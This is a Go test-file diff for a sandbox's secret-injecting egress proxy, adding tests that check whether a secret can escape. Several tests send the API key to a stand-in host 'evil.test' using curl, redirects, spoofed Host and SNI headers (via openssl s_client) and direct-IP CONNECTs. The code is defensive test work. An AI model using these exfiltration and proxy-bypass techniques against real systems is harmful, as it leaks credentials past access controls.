@@ -12,6 +12,8 @@ import (
 	"crypto/x509/pkix"
 	"encoding/pem"
 	"errors"
+	"io"
+	"log"
 	"math/big"
 	"net"
 	"net/http"
@@ -20,6 +22,7 @@ import (
 	"path/filepath"
 	"strings"
 	"sync"
+	"syscall"
 	"testing"
 	"time"
 
@@ -51,7 +54,7 @@ type apiServer struct {
 
 // newAPIServer starts the API with a certificate for secretHosts signed
 // by a CA of its own.
-func newAPIServer(t *testing.T) *apiServer {
+func newAPIServer(t testing.TB) *apiServer {
 	t.Helper()
 	caKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
 	caTmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "test API CA"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign}
@@ -71,9 +74,18 @@ func newAPIServer(t *testing.T) *apiServer {
 		a.mu.Lock()
 		a.header = append(a.header, strings.Split(r.Host, ":")[0]+" "+r.Header.Get("Authorization"))
 		a.mu.Unlock()
+		if r.URL.Path == "/big" {
+			w.Write(make([]byte, 1<<20))
+			return
+		}
+		if r.URL.Path == "/redirect" {
+			http.Redirect(w, r, "https://evil.test:"+a.port+"/landed", http.StatusFound)
+			return
+		}
 		w.Write([]byte("api ok"))
 	}))
 	srv.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
+	srv.Config.ErrorLog = log.New(io.Discard, "", 0) // the probes' aborted handshakes
 	srv.StartTLS()
 	t.Cleanup(srv.Close)
 	_, a.port, _ = net.SplitHostPort(srv.Listener.Addr().String())
@@ -98,7 +110,7 @@ func apiSecret(value string) []sandbox.Secret {
 // secretsDomainSandbox returns a started sandbox with the domain allow
 // list api.test,evil.test and the secret API_KEY for api.test, whose
 // proxy trusts api's CA.
-func secretsDomainSandbox(t *testing.T, api *apiServer) *local.Sandbox {
+func secretsDomainSandbox(t testing.TB, api *apiServer) *local.Sandbox {
 	t.Helper()
 	testenv.Need(t, haveCurl(), "curl is not installed: the probes run it inside the sandbox")
 	testenv.Need(t, os.Geteuid() == 0, "the domain allow list's sandboxes need root here")
@@ -248,6 +260,15 @@ func TestSecretsAtRest(t *testing.T) {
 	if out := run(t, sb, insideGrep(line)).Stdout; out != "" {
 		t.Errorf("files inside hold the CA key: %s", out)
 	}
+	// Nor the sealed record: its text is nowhere inside.
+	rec, _ := os.ReadFile(filepath.Join(dir, "secrets.json"))
+	_, sealed, _ := strings.Cut(string(rec), `"sealed": "`)
+	if len(sealed) < 24 {
+		t.Fatalf("secrets.json has no sealed value: %s", rec)
+	}
+	if out := run(t, sb, insideGrep(sealed[:24])).Stdout; out != "" {
+		t.Errorf("files inside hold the sealed record: %s", out)
+	}
 	if out := run(t, sb, "ls "+sb.StateDir()+" 2>&1; cat "+filepath.Join(dir, "secrets.json")+" 2>&1").Stdout; strings.Contains(out, "sealed") || strings.Contains(out, "secrets-ca") {
 		t.Errorf("the state dir is visible inside: %s", out)
 	}
@@ -284,9 +305,7 @@ func TestSecretsDomainAllowListSubstitutes(t *testing.T) {
 	if out := callAPI(t, sb, api, "api.test"); out != "api ok" {
 		t.Fatalf("curl: %q", out)
 	}
-	if got := api.received(); len(got) != 1 || got[0] != "api.test Bearer "+secretValue {
-		t.Errorf("the API got %q, want the value", got)
-	}
+	wantValue(t, api, secretValue)
 }
 
 func TestSecretsDomainAllowListPython(t *testing.T) {
@@ -299,9 +318,7 @@ print(u.urlopen(r, timeout=10).read().decode())`
 	if out := mustRun(t, sb, "python3 -c '"+py+"'"); strings.TrimSpace(out) != "api ok" {
 		t.Fatalf("python: %q", out)
 	}
-	if got := api.received(); len(got) != 1 || got[0] != "api.test Bearer "+secretValue {
-		t.Errorf("the API got %q, want the value", got)
-	}
+	wantValue(t, api, secretValue)
 }
 
 func TestSecretsDomainAllowListNode(t *testing.T) {
@@ -324,9 +341,7 @@ req.end();`
 	if out := mustRun(t, sb, "cat > /tmp/call.js <<'EOF'\n"+js+"\nEOF\nnode /tmp/call.js"); strings.TrimSpace(out) != "api ok" {
 		t.Fatalf("node: %q", out)
 	}
-	if got := api.received(); len(got) != 1 || got[0] != "api.test Bearer "+secretValue {
-		t.Errorf("the API got %q, want the value", got)
-	}
+	wantValue(t, api, secretValue)
 }
 
 func TestSecretsOtherHostGetsPlaceholder(t *testing.T) {
@@ -336,7 +351,7 @@ func TestSecretsOtherHostGetsPlaceholder(t *testing.T) {
 	// evil.test is on the domain allow list but not a host of the secret:
 	// its connection is not intercepted (curl verifies the API's own
 	// certificate against the API's CA, given here).
-	code, out := curl(t, sb, `--cacert /dev/stdin -H "Authorization: Bearer $API_KEY" https://evil.test:`+api.port+"/steal <<'EOF'\n"+string(api.caPEM)+"EOF\n")
+	code, out := curl(t, sb, "--cacert "+trustAPI(t, sb, api)+` -H "Authorization: Bearer $API_KEY" https://evil.test:`+api.port+"/steal")
 	if code != 0 {
 		t.Fatalf("curl to evil.test: exit %d: %s", code, out)
 	}
@@ -350,7 +365,7 @@ func TestSecretsSpoofedHostHeader(t *testing.T) {
 	sb := secretsDomainSandbox(t, api)
 	p := placeholderOf(t, sb)
 	// A tunnel to evil.test whose request says Host: api.test.
-	code, out := curl(t, sb, `--cacert /dev/stdin -H "Host: api.test" -H "Authorization: Bearer $API_KEY" https://evil.test:`+api.port+"/spoof <<'EOF'\n"+string(api.caPEM)+"EOF\n")
+	code, out := curl(t, sb, "--cacert "+trustAPI(t, sb, api)+` -H "Host: api.test" -H "Authorization: Bearer $API_KEY" https://evil.test:`+api.port+"/spoof")
 	if code != 0 {
 		t.Fatalf("curl: exit %d: %s", code, out)
 	}
@@ -373,9 +388,7 @@ func TestSetSecretsLiveRotateAndDetach(t *testing.T) {
 		t.Errorf("placeholder after rotation %q, want %q", got, before)
 	}
 	callAPI(t, sb, api, "api.test")
-	if got := api.received(); len(got) != 1 || got[0] != "api.test Bearer "+secretValue+"-rotated" {
-		t.Errorf("after rotation the API got %q, want the new value", got)
-	}
+	wantValue(t, api, secretValue+"-rotated")
 	if err := sb.SetSecrets(ctx, nil); err != nil {
 		t.Fatal(err)
 	}
@@ -387,11 +400,189 @@ func TestSetSecretsLiveRotateAndDetach(t *testing.T) {
 		t.Errorf("Info.Secrets after detach = %+v", info.Secrets)
 	}
 	// A process that kept the old placeholder sends it unchanged.
-	code, out := curl(t, sb, `--cacert /dev/stdin -H "Authorization: Bearer `+before+`" https://api.test:`+api.port+"/after <<'EOF'\n"+string(api.caPEM)+"EOF\n")
+	code, out := curl(t, sb, "--cacert "+trustAPI(t, sb, api)+` -H "Authorization: Bearer `+before+`" https://api.test:`+api.port+"/after")
 	if code != 0 {
 		t.Fatalf("curl after detach: exit %d: %s", code, out)
 	}
 	if got := api.received(); len(got) != 1 || got[0] != "api.test Bearer "+before {
 		t.Errorf("after detach the API got %q, want the placeholder", got)
 	}
+}
+
+// wantValue fails the test unless the API got one request, to api.test,
+// with value.
+func wantValue(t *testing.T, api *apiServer, value string) {
+	t.Helper()
+	if got := api.received(); len(got) != 1 || got[0] != "api.test Bearer "+value {
+		t.Errorf("the API got %q, want %s at api.test", got, value)
+	}
+}
+
+// noValue fails the test when the API got the value.
+func noValue(t *testing.T, api *apiServer) {
+	t.Helper()
+	for _, h := range api.received() {
+		if strings.Contains(h, secretValue) {
+			t.Errorf("the API got the value: %q", h)
+		}
+	}
+}
+
+func TestSecretsEscapeConnectToIP(t *testing.T) {
+	api := newAPIServer(t)
+	sb := secretsDomainSandbox(t, api)
+	code, out := curl(t, sb, `-k -H "Authorization: Bearer $API_KEY" https://127.0.0.1:`+api.port+"/ip")
+	if code == 0 {
+		t.Errorf("a CONNECT to the API's address succeeded: %s", out)
+	}
+	noValue(t, api)
+}
+
+func TestSecretsEscapeRedirectToOtherHost(t *testing.T) {
+	api := newAPIServer(t)
+	sb := secretsDomainSandbox(t, api)
+	p := placeholderOf(t, sb)
+	// curl follows the redirect to evil.test with the header
+	// (--location-trusted); evil.test's connection is not intercepted.
+	code, out := curl(t, sb, "--location-trusted --cacert "+trustAPI(t, sb, api)+` -H "Authorization: Bearer $API_KEY" https://api.test:`+api.port+"/redirect")
+	if code != 0 || out != "api ok" {
+		t.Fatalf("curl: exit %d: %s", code, out)
+	}
+	got := api.received()
+	if len(got) != 2 || got[0] != "api.test Bearer "+secretValue || got[1] != "evil.test Bearer "+p {
+		t.Errorf("the API got %q, want the value at api.test and the placeholder at evil.test", got)
+	}
+}
+
+func TestSecretsEscapeSpoofedSNI(t *testing.T) {
+	api := newAPIServer(t)
+	sb := secretsDomainSandbox(t, api)
+	testenv.Need(t, run(t, sb, "command -v openssl").ExitCode == 0, "openssl is not installed in the sandbox")
+	// A tunnel to evil.test whose ClientHello names api.test.
+	run(t, sb, `printf 'GET /sni HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n' "$API_KEY" | timeout 10 openssl s_client -quiet -proxy 127.0.0.1:3128 -connect evil.test:`+api.port+` -servername api.test 2>&1`)
+	noValue(t, api)
+}
+
+func TestSecretsCleartextKeepsPlaceholder(t *testing.T) {
+	api := newAPIServer(t)
+	sb := secretsDomainSandbox(t, api)
+	port := originServer(t)
+	// api.test over cleartext HTTP: the secret allows TLS only.
+	code, out := curl(t, sb, `-H "Authorization: Bearer $API_KEY" http://api.test:`+port+"/clear")
+	if code != 0 || strings.Contains(out, secretValue) {
+		t.Errorf("exit %d: %q", code, out)
+	}
+	policyLog(t, sb, "API_KEY")
+}
+
+func TestSecretsEgressProxyEndsWithSandbox(t *testing.T) {
+	api := newAPIServer(t)
+	sb := secretsDomainSandbox(t, api)
+	pid := local.EgressProxyPID(sb)
+	if pid == 0 {
+		t.Fatal("no egress proxy serves the sandbox")
+	}
+	if err := sb.Destroy(context.Background()); err != nil {
+		t.Fatal(err)
+	}
+	if !poll(5*time.Second, func() bool { return processGone(pid) }) {
+		t.Errorf("the egress proxy %d still runs after the sandbox's removal", pid)
+	}
+}
+
+// trustAPI writes in sb a bundle of its trust variables' bundle and the
+// API's own CA, and returns its path: curl then verifies both the
+// secrets proxy's certificates and the API's, seen through a tunnel that
+// is not intercepted.
+func trustAPI(t testing.TB, sb *local.Sandbox, api *apiServer) string {
+	t.Helper()
+	mustRun(t, sb, "cat \"$SSL_CERT_FILE\" > /tmp/api-bundle.pem && cat >> /tmp/api-bundle.pem <<'EOF'\n"+string(api.caPEM)+"EOF")
+	return "/tmp/api-bundle.pem"
+}
+
+func TestSetSecretsBeforeCreateShapesIt(t *testing.T) {
+	sb := openSandbox(t, local.Options{})
+	if err := sb.SetSecrets(context.Background(), apiSecret(secretValue)); err != nil {
+		t.Fatal(err)
+	}
+	if p := placeholderOf(t, sb); !strings.HasPrefix(p, "agentbox_secret_") {
+		t.Errorf("API_KEY = %q in the sandbox created after SetSecrets, want a placeholder", p)
+	}
+}
+
+func TestSetSecretsAddsInterceptionLive(t *testing.T) {
+	api := newAPIServer(t)
+	testenv.Need(t, haveCurl(), "curl is not installed: the probes run it inside the sandbox")
+	testenv.Need(t, os.Geteuid() == 0, "the domain allow list's sandboxes need root here")
+	sb := openSandbox(t, local.Options{Config: local.Config{Network: netPolicy(t, false, "", "api.test,evil.test")}})
+	local.SetEgressTestHooks(sb, secretHosts, true)
+	local.SetSecretsTestRoots(sb, api.caPEM)
+	if _, err := sb.Start(context.Background()); err != nil {
+		t.Fatal(err)
+	}
+	if err := sb.SetSecrets(context.Background(), apiSecret(secretValue)); err != nil {
+		t.Fatal(err)
+	}
+	callAPI(t, sb, api, "api.test")
+	wantValue(t, api, secretValue)
+}
+
+func TestSetSecretsRefusedWhilePaused(t *testing.T) {
+	sb := pausedSandbox(t, local.Options{Config: local.Config{Secrets: apiSecret(secretValue)}})
+	err := sb.SetSecrets(context.Background(), apiSecret(secretValue+"-new"))
+	if !errors.Is(err, sandbox.ErrInvalidState) {
+		t.Fatalf("SetSecrets on a paused sandbox: err = %v, want one matching ErrInvalidState", err)
+	}
+}
+
+func TestSecretsInNoProcessArgvOrEnvironment(t *testing.T) {
+	api := newAPIServer(t)
+	sb := secretsDomainSandbox(t, api)
+	callAPI(t, sb, api, "api.test") // egressd holds the value now
+	if local.EgressProxyPID(sb) == 0 {
+		t.Fatal("no egress proxy serves the sandbox")
+	}
+	procs, _ := filepath.Glob("/proc/[0-9]*")
+	for _, p := range procs {
+		for _, f := range []string{"cmdline", "environ"} {
+			if b, err := os.ReadFile(filepath.Join(p, f)); err == nil && strings.Contains(string(b), secretValue) {
+				t.Errorf("%s/%s holds the value", p, f)
+			}
+		}
+	}
+}
+
+func TestSecretsSurviveEgressProxyRestart(t *testing.T) {
+	api := newAPIServer(t)
+	sb := secretsDomainSandbox(t, api)
+	pid := local.EgressProxyPID(sb)
+	if pid == 0 {
+		t.Fatal("no egress proxy serves the sandbox")
+	}
+	if err := syscall.Kill(pid, syscall.SIGKILL); err != nil {
+		t.Fatal(err)
+	}
+	if !poll(5*time.Second, func() bool { return processGone(pid) }) {
+		t.Fatalf("the egress proxy %d outlived SIGKILL", pid)
+	}
+	// The next command starts a proxy again, which gets the secrets from
+	// the sandbox's folder.
+	callAPI(t, sb, api, "api.test")
+	wantValue(t, api, secretValue)
+}
+
+func TestSecretsRotationReachesRunningProcess(t *testing.T) {
+	api := newAPIServer(t)
+	sb := secretsDomainSandbox(t, api)
+	// A process started before the rotation waits on a fifo, then calls
+	// the API with the placeholder its environment got at its start.
+	mustRun(t, sb, `mkfifo /tmp/go && (read x < /tmp/go; curl -sS --max-time 10 -H "Authorization: Bearer $API_KEY" https://api.test:`+api.port+`/late > /tmp/late.out 2>&1; touch /tmp/late.done) > /dev/null 2>&1 &`)
+	if err := sb.SetSecrets(context.Background(), apiSecret(secretValue+"-rotated")); err != nil {
+		t.Fatal(err)
+	}
+	out := mustRun(t, sb, "echo go > /tmp/go; timeout 20 sh -c 'until [ -e /tmp/late.done ]; do sleep 0.05; done'; cat /tmp/late.out")
+	if out != "api ok" {
+		t.Fatalf("the running process's request: %q", out)
+	}
+	wantValue(t, api, secretValue+"-rotated")
 }
